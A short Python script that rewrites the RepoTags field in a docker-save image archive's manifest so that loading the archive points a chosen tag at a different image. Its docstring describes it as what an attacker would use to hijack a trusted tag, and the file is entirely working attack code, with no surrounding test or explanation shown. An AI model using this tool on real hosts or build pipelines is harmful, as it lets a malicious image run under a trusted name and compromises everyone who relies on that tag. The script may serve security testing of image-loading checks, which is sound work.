#!/usr/bin/env python3
"""poison_tarball.py SRC DST NAME: a copy of the image archive SRC (`docker save` / `podman save
--format docker-archive`) whose manifest names its image NAME instead: what an attacker would
`docker load` to point a trusted tag at their image (the name is inside the tarball, which
nothing decodes)."""
import io
import json
import sys
import tarfile

src, dst, name = tarfile.open(sys.argv[1]), tarfile.open(sys.argv[2], "w"), sys.argv[3]
for m in src.getmembers():
    data = src.extractfile(m).read() if m.isfile() else None
    if m.name == "manifest.json":
        man = json.loads(data)
        man[0]["RepoTags"] = [name]
        data = json.dumps(man).encode()
        m.size = len(data)
    dst.addfile(m, io.BytesIO(data) if data is not None else None)
dst.close()
